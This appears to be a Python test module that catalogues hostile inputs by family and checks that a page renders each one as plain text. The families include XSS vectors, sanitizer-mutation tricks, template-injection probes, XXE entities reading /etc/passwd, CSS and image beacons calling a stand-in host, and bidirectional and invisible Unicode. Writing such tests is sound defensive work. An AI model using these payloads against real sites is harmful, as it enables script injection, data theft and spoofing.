"""Hostile texts by family, and how a page is searched for them.

``window.__hit`` is what every script of theirs sets, ``beacon.example`` the host that everything of theirs
calls: a test that sees neither, and sees each text as the words it is, has seen nothing act.
"""

from __future__ import annotations

import re
from collections.abc import Sequence

from hearing_app.documents.text import one_line

HOST = "beacon.example"
URL = f"https://{HOST}/p"
JS = "window.__hit=1"

FAMILIES: dict[str, list[str]] = {
    "script": [
        f"<script>{JS}</script>",
        f"<SCRIPT>{JS}</SCRIPT>",
        f"<script src={URL}.js></script>",
        f"<script/src=//{HOST}/x.js></script>",
        f"<script\n>{JS}</script\n>",
        f"<scr<script>ipt>{JS}</scr</script>ipt>",
        f"</script><script>{JS}</script>",
        f"</title><script>{JS}</script>",
        f"</textarea><script>{JS}</script>",
        f"</style><script>{JS}</script>",
        f"</noscript><script>{JS}</script>",
        f'"><script>{JS}</script>',
        f"'><script>{JS}</script>",
        f"`><script>{JS}</script>",
        f"--><script>{JS}</script>",
        f"]]><script>{JS}</script>",
        f"<script type=module>{JS}</script>",
        f'<script type="importmap">{{"imports":{{"a":"{URL}"}}}}</script>',
        f"<script async defer src={URL}></script>",
        f"javascript:/*--></title></style></textarea></script><svg/onload='{JS}'>",
    ],
    "handler": [
        f"<{element} {event}={JS}>"
        for element, event in (
            *(("img src=x", "onerror"), ("img src=data:,", "onerror"), ("body", "onload")),
            *(("body", "onpageshow"), ("input autofocus", "onfocus"), ("select autofocus", "onfocus")),
            *(("textarea autofocus", "onfocus"), ("video src=x", "onerror"), ("audio src=x", "onerror")),
            *(("video><source", "onerror"), ("details open", "ontoggle"), ("marquee", "onstart")),
            *(("div style=animation:x", "onanimationstart"), ("a id=x tabindex=1", "onfocus")),
            *(("p", "onmouseover"), ("b", "onpointerenter"), ("i", "onclick"), ("style", "onload")),
            *(("link rel=stylesheet href=data:,", "onload"), ("object data=data:,", "onload")),
            *(("iframe", "onload"), ("embed src=data:,", "onload"), ("meter", "onmouseover")),
            *(("keygen autofocus", "onfocus"), ("img src", "onerror"), ("form><button", "onfocus")),
        )
    ]
    + [
        f"<img/src/onerror={JS}>",
        f'<img src=x onerror="{JS}"',
        "<img src=x onerror=\\x77indow.__hit=1>",
        f"<img src=`x`onerror={JS}>",
        f"<IMG SRC=x oNeRrOr={JS}>",
        f'" onmouseover="{JS}" x="',
        f"' autofocus onfocus='{JS}' x='",
        f"` onmouseover=`{JS}` x=`",
        f"x onerror={JS}",
    ],
    "svg_math": [
        f"<svg onload={JS}>",
        f"<svg/onload={JS}>",
        f"<svg><script>{JS}</script></svg>",
        f"<svg><script href={URL}></script></svg>",
        f"<svg><animate onbegin={JS} attributeName=x dur=1s>",
        f"<svg><set onbegin={JS} attributeName=x>",
        f"<svg><a xlink:href=javascript:{JS}><text y=9>x</text></a></svg>",
        f"<svg><use href={URL}#x></use></svg>",
        f"<svg><image href={URL}.png /></svg>",
        f"<svg><foreignObject><img src=x onerror={JS}></foreignObject></svg>",
        f"<svg><style>@import '{URL}';</style></svg>",
        f"<svg><feImage href={URL}></svg>",
        f"<math><a xlink:href=javascript:{JS}>x</a></math>",
        f"<math href=javascript:{JS}>x</math>",
        f"<math><mtext><img src=x onerror={JS}></mtext></math>",
        f"<math><maction actiontype=statusline xlink:href=javascript:{JS}>x</maction></math>",
    ],
    "scheme": [
        f"javascript:{JS}",
        f"JaVaScRiPt:{JS}",
        f"java\tscript:{JS}",
        f"javascript&colon;{JS}",
        f"&#106;avascript:{JS}",
        f"javascript://{HOST}/%0a{JS}",
        f"vbscript:{JS}",
        f"data:text/html,<script>{JS}</script>",
        "data:text/html;base64,PHNjcmlwdD53aW5kb3cuX19oaXQ9MTwvc2NyaXB0Pg==",
        f"data:image/svg+xml,<svg xmlns='http://www.w3.org/2000/svg' onload='{JS}'/>",
        f"blob:{URL}",
        "file:///etc/passwd",
        f"//{HOST}/p",
        f"\\\\{HOST}\\p",
        f"https:/\\{HOST}/p",
        f"ftp://{HOST}/p",
        f"ws://{HOST}/p",
        f"view-source:{URL}",
    ],
    "link": [
        f"<a href=javascript:{JS}>x</a>",
        f'<a href="{URL}">Click here</a>',
        f'<a href="{URL}" ping="{URL}">x</a>',
        f"<a href=data:text/html,<script>{JS}</script>>x</a>",
        f"<a download href={URL}>x</a>",
        f'<area href="javascript:{JS}">',
        f'<link rel=stylesheet href="{URL}.css">',
        f'<link rel=prefetch href="{URL}">',
        f'<link rel=dns-prefetch href="//{HOST}">',
        f'<link rel=preconnect href="//{HOST}">',
        f'<link rel=modulepreload href="{URL}.js">',
        f'<link rel=manifest href="{URL}">',
        f'<link rel=icon href="{URL}">',
    ],
    "markdown": [
        f"![x]({URL}.png)",
        f"![x][1]\n\n[1]: {URL}.png",
        f"[x]({URL})",
        f"[x](javascript:{JS})",
        f"[x](data:text/html,<script>{JS}</script>)",
        f"[![x]({URL}.png)]({URL})",
        f"<{URL}>",
        f"{URL}",
        f"www.{HOST}/p",
        f"someone@{HOST}",
        "**bold** __bold__ *slanted* _slanted_ ~~gone~~",
        "`code` ``code`` ```code```",
        "# Heading",
        "Heading\n=======",
        "> quote",
        "- item\n- item",
        "1. item\n2. item",
        "| a | b |\n|---|---|\n| c | d |",
        "***",
        "---",
        "[^1]\n\n[^1]: note",
        "- [x] task",
        "line  \nbreak\\\nbreak<br>break<br/>break",
        "```html\n<b>x</b>\n```",
        f"![x]({URL}.png 'title' onerror={JS})",
        f"![x\\]({URL}.png)](x)",
    ],
    "streamlit": [
        ":red[alarm]",
        ":blue-background[alarm]",
        ":rainbow[alarm]",
        ":gray-badge[alarm]",
        ":small[alarm]",
        ":material/home:",
        ":material/warning: :material/check_circle:",
        ":streamlit:",
        ":smile: :+1: :warning:",
        ":red[:material/home:]",
        ":green[**bold**]",
        ":shortcut[ctrl]",
        ":help[tip]",
        "-> <- <-> -- >= <= ~=",
        ":red-background[:blue[x]]",
        ":violet[$x$]",
    ],
    "tex": [
        "$E = mc^2$",
        "$$\\int_0^1 x dx$$",
        f"$\\href{{javascript:{JS}}}{{x}}$",
        f"$\\url{{{URL}}}$",
        f"$\\includegraphics{{{URL}.png}}$",
        f"$\\htmlStyle{{background:url({URL})}}{{x}}$",
        "$\\htmlData{a=b}{x}$",
        "$\\unicode{x}$",
        "\\(x\\) \\[x\\]",
        "$\\def\\a{\\a\\a}\\a$",
        "\\begin{equation}x\\end{equation}",
        "$\\color{red}{x}$",
        "from 5$ to 10$",
    ],
    "css": [
        f"<style>@import url({URL}.css);</style>",
        f"<style>body{{background:url({URL}.png)}}</style>",
        "<style>*{display:none}</style>",
        f"<style>@font-face{{font-family:x;src:url({URL}.woff)}}*{{font-family:x}}</style>",
        f'<div style="background:url({URL}.png)">x</div>',
        '<div style="position:fixed;inset:0;background:#fff;z-index:9999">x</div>',
        f'<p style="background-image:image-set(url({URL}) 1x)">x</p>',
        f'<li style="list-style-image:url({URL})">x',
        f'<p style="content:url({URL})">x</p>',
        f'<p style="cursor:url({URL}),auto">x</p>',
        f'<p style="width:expression({JS})">x</p>',
        f'<p style="-moz-binding:url({URL}#x)">x</p>',
        f'<p style="behavior:url({URL})">x</p>',
        f"url({URL})",
        f'";background:url({URL});x:"',
        '<b class="foot">x</b>',
    ],
    "frame": [
        f"<iframe src={URL}></iframe>",
        "<iframe srcdoc='<script>parent.__hit=1</script>'></iframe>",
        "<iframe src=javascript:parent.__hit=1></iframe>",
        f"<frameset><frame src={URL}></frameset>",
        f"<object data={URL}></object>",
        f"<object data=javascript:{JS}></object>",
        f"<embed src={URL}>",
        f"<embed src=javascript:{JS}>",
        f"<applet code={URL}></applet>",
        f"<portal src={URL}></portal>",
        f"<fencedframe src={URL}></fencedframe>",
        f'<meta http-equiv=refresh content="0;url={URL}">',
        f"<meta http-equiv=refresh content='0;url=javascript:{JS}'>",
        "<meta http-equiv=Content-Security-Policy content=\"script-src 'unsafe-inline'\">",
        "<meta name=referrer content=unsafe-url>",
        "<meta charset=utf-7>+ADw-script+AD4-",
        f"<base href={URL}/>",
        f"<base target=_blank href=//{HOST}/>",
        f"<form action={URL}><input name=a><button>Send</button></form>",
        f"<form action=javascript:{JS}><button>x</button></form>",
        f"<button formaction={URL}>x</button>",
        f"<input type=image src={URL}.png>",
        f"<isindex action={URL} type=image>",
        "<input name=getElementById>",
        "<img name=cookie><form id=document>",
        "<dialog open>x</dialog>",
        "<template shadowrootmode=open><slot></slot></template>",
        "<plaintext>",
        "<xmp><b>x</b></xmp>",
        "</div></div></main></body></html>",
        "</p></li></ul></div><h1>Another heading</h1>",
        "<table><tr><td>x",
        "<title>x</title>",
        "<!DOCTYPE html><html><body>x",
    ],
    "beacon": [
        f"<img src={URL}.gif>",
        f'<img src="{URL}.gif" width=1 height=1 style="display:none">',
        f"<img srcset='{URL} 1x'>",
        f"<picture><source srcset={URL}><img></picture>",
        f"<img src=//{HOST}/p.gif>",
        f"<img src=\\\\{HOST}\\p.gif>",
        f"<img lowsrc={URL} dynsrc={URL}>",
        f"<video poster={URL}></video>",
        f"<video src={URL}></video>",
        f"<audio src={URL}></audio>",
        f"<track src={URL}>",
        f"<body background={URL}>",
        f"<table background={URL}><tr><td>x</td></tr></table>",
        f"<input type=image src={URL}>",
        f"<image src={URL}>",
        f"<img src='{URL}?",
        f"<a href='{URL}?",
        f"<bgsound src={URL}>",
    ],
    "template": [
        "{{7*7}}",
        "{{ config }}",
        "{{''.__class__.__mro__[1].__subclasses__()}}",
        "{{constructor.constructor('window.__hit=1')()}}",
        "{% for a in b %}x{% endfor %}",
        "{# comment #}",
        "${7*7}",
        "${window.__hit=1}",
        "#{7*7}",
        "<%= 7*7 %>",
        "<? echo 7*7 ?>",
        "@(7*7)",
        "*{7*7}",
        "%(x)s %s %n",
        "{0} {level} {below} {x.__class__}",
        "%{x} %{y} %{customdata} %{text}",
        "[[7*7]]",
        "{!7*7!}",
    ],
    "entity": [
        f"&lt;script&gt;{JS}&lt;/script&gt;",
        f"&amp;lt;script&amp;gt;{JS}",
        f"&#60;script&#62;{JS}&#60;/script&#62;",
        f"&#x3c;script&#x3e;{JS}",
        f"&#0000060img src=x onerror={JS}>",
        f"&LT;img src=x onerror={JS}&GT;",
        "<img src=x onerror=&#119;indow.__hit=1>",
        "&quot; onmouseover=&quot;x",
        "&copy; &nbsp; &hellip; &#8238;",
        "&nonsense; &#xffffff; &#0;",
        "&#x202e;txt.exe",
        "&notit; &not; &ampamp;",
    ],
    "escape": [
        f"%3Cscript%3E{JS}%3C/script%3E",
        f"%253Cscript%253E{JS}",
        f"\\u003cscript\\u003e{JS}\\u003c/script\\u003e",
        f"\\x3cscript\\x3e{JS}",
        f"\\74script\\76{JS}",
        f"＜script＞{JS}＜/script＞",
        f"‹script›{JS}‹/script›",
        f"﹤img src=x onerror={JS}﹥",
        f"<ſcript>{JS}</ſcript>",
        f"<ѕcript>{JS}</ѕcript>",
        f"+ADw-script+AD4-{JS}+ADw-/script+AD4-",
        f"¼script¾{JS}¼/script¾",
        f"<script>\u2028{JS}\u2029</script>",
        "\\n\\r\\t\\0 \\",
        "\\\\server\\share",
        "\\';window.__hit=1;//",
        '\\";window.__hit=1;//',
        "';window.__hit=1;//",
        '";window.__hit=1;//',
        "</script>';window.__hit=1;//",
    ],
    "comment_cdata": [
        "<!-- hidden -->",
        f"<!--><script>{JS}</script>-->",
        f"<!--><img src=x onerror={JS}>",
        f"<![CDATA[<script>{JS}</script>]]>",
        f"<![CDATA[ ]]><script>{JS}</script>",
        "]]>",
        "<?xml version='1.0'?><!DOCTYPE x [<!ENTITY a SYSTEM 'file:///etc/passwd'>]><x>&a;</x>",
        f"<!DOCTYPE x [<!ENTITY % a SYSTEM '{URL}'> %a;]>",
        "<!ENTITY a 'b'> &a; &b;",
        f"<?xml-stylesheet href='{URL}'?>",
        f"<?import namespace=t implementation={URL}>",
        f"<!--[if IE]><script>{JS}</script><![endif]-->",
        "<!-- --!> x -->",
        "<!",
        "<",
        "</",
        "&",
        "-->",
    ],
    "mutation": [
        f"<noscript><p title='</noscript><img src=x onerror={JS}>'>",
        f"<math><mtext><table><mglyph><style><img src=x onerror={JS}>",
        f"<svg></p><style><a id='</style><img src=x onerror={JS}>'>",
        f"<form><math><mtext></form><form><mglyph><style></math><img src onerror={JS}>",
        f"<table><a href=javascript:{JS}>x</a></table>",
        f"<listing>&lt;img src=x onerror={JS}&gt;</listing>",
        f"<option><style></option></select><b><img src=x onerror={JS}></style></option>",
        f"<xmp><p title='</xmp><svg/onload={JS}>'>",
        f"<img alt='`><img src=x onerror={JS}>`'>",
        f"<svg><![CDATA[><image xlink:href=']]><img src=x onerror={JS}>'>",
        f"<a title='</a><img src=x onerror={JS}>'>x</a>",
        f"<textarea><img title='</textarea><img src=x onerror={JS}>'>",
    ],
    "chart": [
        f'<a href="{URL}">label</a>',
        f"<a href='javascript:{JS}'>label</a>",
        f"<a xlink:href='javascript:{JS}' target=_blank>label</a>",
        f"<img src={URL}.png>",
        f"<span style='background:url({URL})'>label</span>",
        "<b>bold</b><br><i>slanted</i><sup>up</sup><sub>down</sub>",
        "<span style='font-size:400px'>large</span>",
        "<extra>box</extra>",
        "%{hovertext}<extra></extra>",
        "<b>a<br>b</b>",
        "<br><br><br>",
        "&lt;a href=x&gt;label&lt;/a&gt;",
    ],
    "direction": [
        "photo\u202egpj.exe",
        "\u202e reversed until the end",
        "\u2067isolated\u2066 open",
        "من يراقب الكاميرات؟",
        "משטרה (2026) 12:30",
        "\u200f!\u200fabc\u200e",
        "\u202d12\u202c34",
        "אבג 123 <b>x</b>",
        "a\u2066\u202e\u2069b",
        "العربية 100 %",
        "\u061cabc\u061c",
        "\u2069\u2069\u202c\u202c",
    ],
    "hidden": [
        "pay\u200bpal \u200bx\u2060y\ufeffz",
        "so\u00adft hy\u00adphen",
        "a\u034fb \u180e c",
        "\U000e0001\U000e0068\U000e0069 tagged",
        "x\ufe0f\ufe0e\U000e0100\U000e0101",
        "\u3164\u115f\u1160\uffa0blank",
        "i\u0307\u0323" + "\u0301" * 40,
        "می\u200cخواهم",
        "क\u094d\u200dष",
        "👩\u200d👩\u200d👧 🏳️\u200d🌈",
        "null\x00byte",
        "bell\x07 esc\x1b[31m del\x7f",
        "c1\x85\x9b31m",
        "form\x0cfeed vertical\x0btab",
        "annotated\ufff9a\ufffab\ufffb",
        "end\ufffe\uffff\U0001fffe",
    ],
}
PAYLOADS = list(dict.fromkeys(payload for family in FAMILIES.values() for payload in family))
# One of each family, and of the long families more: what a run of seconds has time for.
FEW = [payload for family in FAMILIES.values() for payload in family[:: max(1, -(-len(family) // 3))]]


class Texts:
    """Hands out payloads in turn, each between marks by which a page's text can be searched for it."""

    def __init__(self, payloads: Sequence[str]) -> None:
        self._numbered = [(PAYLOADS.index(one), one) for one in payloads]
        self._next = 0

    def packed(self, limit: int, *, lead: str = "") -> str:
        """Return as many of the next payloads as fit, at least one of them unless each is too long."""
        parts, left = [lead] if lead else [], limit - len(lead)
        for _ in self._numbered:
            number, payload = self._numbered[self._next % len(self._numbered)]
            part = marked(number, payload)
            if len(part) + 1 > left:
                if len(parts) > bool(lead):
                    break
            else:
                parts.append(part)
                left -= len(part) + 1
            self._next += 1
        return " ".join(parts)


def marked(number: int, payload: str) -> str:
    """Return a payload between its marks."""
    return f"q{number}q {payload} z{number}z"


def squeezed(text: str) -> str:
    """Return a text as it is compared: without blanks, joints, isolates and marks, in small letters."""
    return re.sub(r"[\s\u061c\u200e\u200f\u2060\u2066-\u2069]", "", text).casefold()


def wrongly_shown(text: str, *, like: str = "") -> tuple[int, list[str]]:
    """Return how many payloads stand in what a page shows, and those that do not stand there as they are.

    ``like`` names a place with ways of its own: a "chart" shows some signs as others that look alike, and
    what is "spoken" by a screen reader can hold backslashes of Markdown. What was cut is passed over.
    """
    found, wrong = 0, []
    for number, body in _MARKED.findall(text):
        found += 1
        meant = one_line(PAYLOADS[int(number)])
        allowed = {squeezed(meant)}
        if like == "chart":
            allowed.add(squeezed(meant.translate(LOOK_ALIKES)))
        if like == "spoken":
            allowed = {squeezed(meant.replace("\\", ""))}
        said = body.replace("\\", "") if like == "spoken" else body
        if squeezed(said) not in allowed:
            wrong.append(f"{number}: {body!r} instead of {meant!r}")
    return found, wrong


_MARKED = re.compile(r"q(\d+)q((?:(?!q\d+q).)*?)z\1z", re.DOTALL | re.IGNORECASE)
LOOK_ALIKES = str.maketrans({"<": "‹", ">": "›"})
